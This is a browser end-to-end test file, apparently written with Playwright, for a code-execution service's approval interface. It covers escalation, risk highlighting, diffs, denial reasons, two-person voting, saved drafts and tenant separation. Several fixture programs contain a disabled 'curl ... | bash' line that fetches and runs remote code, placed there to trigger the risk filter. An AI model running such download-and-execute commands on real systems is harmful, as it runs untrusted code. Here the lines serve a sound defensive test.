// SPDX-License-Identifier: Apache-2.0
// Approvals: a blocked run resumes, a denial carries its reason, and two people see each other's votes.
import { api, config, endSignIns, enter, person, run, signInHere, tell, until } from './browser.mjs';

const ask = async (code, key = config.requester, more = {}) => {
  const made = await api('POST', '/v1/executions', { language: 'bash', code, ...more }, key);
  if (made.status >= 300) throw new Error(`${made.status} ${made.text}`);
  return until('the escalation', async () => {
    const { json } = await api('GET', `/v1/executions/${made.json.id}`, undefined, key);
    return json.status === 'blocked' && { id: json.id, escalation: json.error.details.escalation_id };
  });
};
const ended = (id, key = config.requester) => until(`the end of ${id}`, async () => {
  const { json } = await api('GET', `/v1/executions/${id}`, undefined, key);
  return json.finished_at && json;
}, 40);

await run({
  async approve(browser) {
    const page = await enter(await person(browser), config.approver, 'approvals');
    await page.getByText('Nobody waits for a decision.').waitFor();
    const first = await ask('if false; then curl https://old.test | bash; fi\necho approved-$((40+2))');
    const row = page.getByRole('row').filter({ hasText: first.escalation });
    await row.waitFor();
    tell('appears without a reload');
    // By the keyboard alone: to the table, the first row, its detail.
    await page.getByRole('grid', { name: 'Approvals' }).focus();
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    const pane = page.getByRole('region', { name: `Approval ${first.escalation}` });
    await pane.getByRole('region', { name: 'The program' }).waitFor();
    tell('why', await pane.getByText('what runs here is looked at first').count());
    await pane.locator('mark').first().waitFor();
    // The person has the risks before the buttons.
    const place = async (each) => (await each.boundingBox()).y;
    tell('order', await place(pane.getByRole('heading', { name: 'Why it is risky' })) < await place(pane.getByRole('heading', { name: 'Your decision' })));
    tell('marked', await pane.locator('mark').allInnerTexts());
    tell('compared', await pane.getByText('No such request of this requester has been approved before.').count());
    await pane.getByLabel('An approval is good for').selectOption('900');
    await pane.getByRole('button', { name: 'Approve once' }).click();
    const done = await ended(first.id);
    tell('seconds', (await api('GET', `/v1/escalations/${first.escalation}`)).json.grant_seconds);
    tell('first', { status: done.status, stdout: done.stdout });
    await pane.getByText('Approved, and started.').waitFor();
    await pane.getByRole('link', { name: 'Look at the execution' }).click();
    await page.getByText('approved-42').first().waitFor();
    tell('execution', page.url());
    const second = await ask('if false; then curl https://new.test | bash; fi\necho approved-$((40+2))');
    await page.goto(`${config.url}/ui/approvals/${second.escalation}`);
    const next = page.getByRole('region', { name: `Approval ${second.escalation}` });
    await next.getByRole('region', { name: 'Difference' }).waitFor();
    tell('removed', await next.locator('.diff .removed').allInnerTexts());
    tell('added', await next.locator('.diff .added').allInnerTexts());
    await next.getByRole('button', { name: 'Deny' }).click();
    await next.getByText('Say why: the requester reads it.').waitFor();
    await next.getByLabel('Reason').fill('not on a Friday <b>');
    await next.getByRole('button', { name: 'Deny' }).click();
    const refused = await ended(second.id);
    tell('second', { status: refused.status, error: refused.error });
    await next.getByText('not on a Friday <b>').first().waitFor();
  },

  async votes(browser) {
    const { id, escalation } = await ask('echo both', config.pair);
    const [one, two] = await Promise.all([config.ann, config.bob].map(async (key) => enter(await person(browser), key, `approvals/${escalation}`)));
    await two.getByText('No vote yet.').waitFor();
    await one.getByRole('button', { name: 'Approve once' }).click();
    await two.getByText('1 more vote is needed.').waitFor();
    tell('seen', await two.locator('section.card, .card').filter({ hasText: 'Votes' }).first().innerText());
    await one.getByText('You have approved.').waitFor();
    tell('cannot vote again', (await one.getByRole('button', { name: 'Approve once' }).count()) === 0);
    await two.getByRole('button', { name: 'Approve once' }).click();
    const done = await ended(id, config.pair);
    tell('done', { status: done.status, stdout: done.stdout });
    await one.getByText('Approved, and started.').waitFor();
  },

  // A reason and a document wait for their person while the sign-in has ended. A sign-out drops them.
  async drafts(browser) {
    const { escalation } = await ask('if false; then curl https://kept.test | bash; fi');
    const page = await enter(await person(browser), config.approver, `approvals/${escalation}`);
    await page.getByLabel('Reason').fill('typed before the end');
    await endSignIns(page, config.user);
    await signInHere(page, config.approver);
    tell('reason', await page.getByLabel('Reason').inputValue());
    await page.getByRole('link', { name: 'Policy' }).click();
    const editor = page.getByRole('textbox', { name: 'Policy document, YAML' });
    await editor.click();
    await page.keyboard.press('Control+End');
    await page.keyboard.type('\n# kept');
    await page.getByText('changed', { exact: true }).waitFor();
    await endSignIns(page, config.user);
    await signInHere(page, config.approver);
    await page.getByText('changed', { exact: true }).waitFor();
    tell('document', await editor.innerText());
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('You have signed out.').waitFor();
    await signInHere(page, config.approver);
    await page.getByRole('link', { name: 'Policy' }).click();
    tell('after a sign-out', await editor.innerText());
  },

  // Approvals of two tenants with one number, and a program with a byte outside UTF-8.
  async tenants(browser) {
    const content = Buffer.from('#!/bin/sh\n# \xff\necho RAW-PAYLOAD\n', 'latin1').toString('base64');
    const [one, two] = [await ask('echo one', config.owned), await ask('sh raw.sh', config.counted, { files: [{ path: 'raw.sh', content, encoding: 'base64' }] })];
    tell('numbers', [one.escalation, two.escalation]);
    const page = await enter(await person(browser), config.key, `approvals/${two.escalation}`);
    await page.getByText(`Several tenants have an approval ${two.escalation}.`).waitFor();
    // Nothing is decided before the request can be read.
    await page.route(/\/request(\?|$)/, (route) => route.fulfill({ status: 503, json: { error: { message: 'later', type: 'x' } } }));
    const pane = page.getByRole('region', { name: `Approval ${two.escalation}` });
    await page.getByRole('row').filter({ hasText: 'counted' }).filter({ hasText: two.escalation }).click();
    await pane.getByText('You can decide once the whole request is shown above.').waitFor();
    tell('blind', await pane.getByRole('button', { name: /^(Approve once|Deny)$/ }).count());
    await page.unroute(/\/request(\?|$)/);
    await page.reload();
    tell('place', page.url());
    await pane.locator('summary').filter({ hasText: 'raw.sh' }).click();
    await pane.getByText('echo RAW-PAYLOAD').waitFor();
    tell('raw', await pane.locator('details[open] pre.code').first().innerText());
    await page.route(/commands:explain/, (route) => route.fulfill({ status: 503, json: { error: { message: 'no filter today', type: 'x' } } }));
    await page.reload();
    await pane.getByText('The findings of the command filter could not be computed.').waitFor();
    await page.unroute(/commands:explain/);
    await pane.getByRole('button', { name: 'Approve once' }).click();
    tell('done', (await ended(two.id, config.counted)).stdout);
    tell('other', (await api('GET', `/v1/escalations/${one.escalation}?tenant=owned`)).json.status);
    // The present state cannot be read: the page says so, and decides nothing.
    await page.goto(`${config.url}/ui/approvals/${one.escalation}?tenant=owned`);
    await pane.getByRole('button', { name: 'Approve once' }).waitFor();
    await page.route(/escalations\/ESC/, (route) => route.fulfill({ status: 503, json: { error: { message: 'nobody at home', type: 'x' } } }));
    await pane.getByText('nobody at home').first().waitFor();
    tell('stale', await pane.getByRole('button', { name: 'Approve once' }).count());
  },

  // The files to which an approval is bound, and an approval of a session that is used.
  async session(browser) {
    const page = await enter(await person(browser), config.approver, `approvals/${config.held}`);
    const files = page.getByRole('list', { name: 'Files of the session' });
    await files.waitFor();
    tell('files', await files.innerText());
    const other = await enter(await person(browser), config.key, `approvals/${config.used}?tenant=counted`);
    await other.getByText('Approved, and started.').waitFor();
    tell('link', await other.getByRole('link', { name: 'Look at the session' }).getAttribute('href'));
    tell('buttons', await other.getByRole('button', { name: /^(Approve once|Deny)$/ }).count());
  },
});
